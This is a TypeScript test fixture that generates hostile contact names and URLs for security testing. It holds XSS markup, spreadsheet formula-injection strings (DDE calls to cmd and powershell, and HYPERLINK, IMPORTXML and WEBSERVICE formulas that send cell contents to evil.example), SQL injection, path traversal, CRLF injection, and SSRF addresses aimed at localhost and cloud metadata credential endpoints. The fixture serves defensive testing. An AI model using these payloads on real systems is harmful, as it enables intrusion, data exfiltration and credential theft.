/** What a page must show as it is: markup, templates and breakouts, in the ways names smuggle them. */
const MARKUP = [
  '<img src=x onerror=window.struck=1>',
  '<svg/onload=window.struck=1>',
  '<script>window.struck=1</script>',
  '"><script>window.struck=1</script>',
  `'"><img src=x onerror=window.struck=1>`,
  '</textarea><script>window.struck=1</script>',
  '</title><svg onload=window.struck=1>',
  '<iframe srcdoc="<script>parent.struck=1</script>">',
  '<a href="javascript:window.struck=1">tekan</a>',
  '<style>@import "http://127.0.0.1/x.css"</style>',
  '<base href=//evil.example>',
  '{{constructor.constructor("window.struck=1")()}}',
  '${window.struck=1}',
  'javascript:/*--></title></style></textarea></script><svg/onload=window.struck=1>',
  '&lt;script&gt;window.struck=1&lt;/script&gt;',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.struck=1>',
  '\u202Egnp.<img src=x onerror=window.struck=1>',
];

/** What spreadsheets execute, behind each of the characters that makes them. */
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', "'=", "''="];
const FORMULAS = [
  `cmd|' /C calc'!A0`,
  'HYPERLINK("http://evil.example?x="&A1;"tekan")',
  'IMPORTXML(CONCAT("http://evil.example?v=";CONCATENATE(A2:E2));"//a")',
  `2+5+cmd|'/c powershell'!A1`,
  'SUM(1+1)*cmd|x!A0',
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  'WEBSERVICE("http://evil.example/")',
];

/** Those that mix both, and what breaks lines and quotes. */
const POLYGLOTS = [
  '=<img src=x onerror=window.struck=1>',
  '","=cmd|x!A0',
  '";=cmd|x!A0',
  'a\u2028=cmd|x!A0',
  "Robert'); DROP TABLE contacts;--",
  '../../etc/passwd',
  '%0d%0aSet-Cookie:x=1',
];

/** 200 names. */
export const HOSTILE_NAMES: readonly string[] = [
  ...new Set([
    ...MARKUP,
    ...STARTS.flatMap((start) => FORMULAS.map((formula) => `${start}${formula}`)),
    ...POLYGLOTS,
    ...MARKUP.flatMap((name) => [
      `Ibu ${name}`,
      `=${name}`,
      `@${name} Sari`,
      name.toUpperCase().replaceAll('WINDOW.STRUCK', 'window.struck'),
    ]),
    ...STARTS.flatMap((start) => [`${start}1`, `${start}A1+B1`, `${start} Sari`]),
    ...FORMULAS.slice(0, 3).map((formula) => `Budi =${formula}`),
    ...POLYGLOTS.map((name) => `+${name}`),
  ]),
];

/** Hosts that lead a careless server to itself or to its neighbours. */
const HOSTS = [
  '127.0.0.1',
  'localhost',
  '127.1',
  '2130706433',
  '0x7f000001',
  '0177.0.0.1',
  '0.0.0.0',
  '[::1]',
  '[::ffff:127.0.0.1]',
  '[0:0:0:0:0:ffff:7f00:1]',
  'user:pass@127.0.0.1',
  '127.0.0.1.',
  'LOCALHOST',
  '①②⑦.0.0.1',
];
const ELSEWHERE = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://[fd00:ec2::254]/latest/meta-data/',
  'http://metadata.google.internal/computeMetadata/v1/',
  'http://10.0.0.1/',
  'http://192.168.1.1/',
  'http://[fe80::1]/',
  'file:///etc/passwd',
  'gopher://127.0.0.1:5432/_x',
  'ftp://127.0.0.1/x',
  '//127.0.0.1/x',
  'https://chat.whatsapp.com/ABCDEFGHIJKLMNOPQRSTUV',
  'https://wa.me/628123456789',
  'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
  'https://example.com/redirect?to=http://127.0.0.1/',
  'http://①⑥⑨.254.169.254/',
  'http://0xa9fea9fe/latest/',
  'http://2852039166/latest/',
  'http://[::ffff:a9fe:a9fe]/latest/',
];

/** 60 addresses; those of this machine lead to `port`. */
export const hostileUrls = (port: number): string[] => [
  ...HOSTS.flatMap((host) => [`http://${host}:${port}/x`, `http://${host}:${port}/x.png`, `https://${host}:${port}/`]),
  ...ELSEWHERE,
];
